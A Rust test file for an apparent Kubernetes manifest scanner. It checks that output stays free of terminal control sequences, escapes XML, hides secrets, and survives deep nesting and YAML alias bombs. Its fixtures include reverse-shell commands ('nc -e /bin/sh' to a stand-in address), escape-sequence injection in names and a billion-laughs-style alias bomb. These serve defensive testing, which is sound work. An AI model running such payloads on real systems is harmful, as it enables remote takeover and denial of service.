//! Manifests and names that are made to do harm.

use std::fmt::Write as _;

use crate::command::{ATTACK, Folder, JSON};

#[test]
fn nothing_reaches_the_terminal_as_a_command() {
    let job = "kind: Job\nmetadata: {name: \"a\\e[2J\\nFAKE none\\u202e\"}\nspec: {template: {spec: {hostNetwork: true,\n  \
               containers: [{name: \"\\e]0;x\\a\", image: \"alpine\\e[1m\", args: [\"nc -e /bin/sh 192.0.2.1 1\\e[2J\"]}]}}}\n";
    let folder =
        Folder::with(&[("x\u{1b}[31m\nb\u{202e}.yaml", job), ("bad\u{7}.yaml", "\"\u{7f}\\e[2J\": [\n")]);
    for format in ["table", "json", "sarif", "junit", "spl", "html"] {
        let output = folder.scan(&["--format", format, "--min-severity", "none", "."]);
        assert_eq!(output.code, 2);
        for text in [&output.stdout, &output.stderr] {
            let unsafe_character =
                |character: char| (character.is_control() && character != '\n') || character == '\u{202e}';
            assert!(!text.contains(unsafe_character), "{format}: {text:?}");
        }
        assert!(!output.stdout.lines().any(|line| line.starts_with("FAKE")), "{}", output.stdout);
        assert_eq!(output.stderr.lines().count(), 1, "{}", output.stderr);
    }
}

#[test]
fn xml_and_secrets_are_kept_in() {
    let job = "kind: Job\nmetadata: {name: \"a\\\"/><x>\\uFFFE]]>\"}\nspec: {template: {spec: {containers:\n  \
               [{name: x, command: [sh, -c, \"PASSWORD=hunter2 nc -e /bin/sh 192.0.2.1 1\"]}]}}}\n";
    let folder = Folder::with(&[("a.yaml", job)]);
    let xml = folder.scan(&["--format", "junit", "."]).stdout;
    assert!(xml.contains("a&quot;/&gt;&lt;x&gt;\u{fffd}]]&gt;"), "{xml}");
    assert!(!xml.contains("hunter2"), "{xml}");
}

#[test]
fn deep_nesting_does_not_end_the_process() {
    for yaml in [
        "[".repeat(10_000),
        "[".repeat(200_000),
        "{a: ".repeat(10_000),
        "- ".repeat(10_000),
        "? ".repeat(10_000),
        format!("kind: Job\nspec: {}{}\n", "[".repeat(9_999), "]".repeat(9_999)),
        format!("{{\"kind\": \"Job\", \"spec\": {}{}}}", "[".repeat(500_000), "]".repeat(500_000)),
    ] {
        let folder = Folder::with(&[("deep.yaml", yaml.as_str()), ("z.yaml", ATTACK)]);
        let output = folder.scan(JSON);
        assert!(output.workloads().last().unwrap().starts_with("CronJob shell ./z.yaml"));
        assert!(output.code == 1 || (output.code == 2 && output.stderr.lines().count() == 1), "{output:?}");
    }
}

#[test]
fn an_alias_bomb_is_one_line() {
    let mut bomb = "a0: &a0 {name: x, image: alpine}\n".to_owned();
    for level in 1..40 {
        writeln!(bomb, "a{level}: &a{level} {{<<: [*a{0}, *a{0}, *a{0}, *a{0}]}}", level - 1).unwrap();
    }
    let yaml = format!("{bomb}kind: Job\nspec: *a39\n---\n{ATTACK}");
    let output = Folder::with(&[("a.yaml", yaml.as_str())]).scan(JSON);
    assert_eq!(output.code, 2);
    assert!(output.stderr.contains("excessive aliasing"), "{output:?}");
    assert_eq!(output.workloads().len(), 1);
}
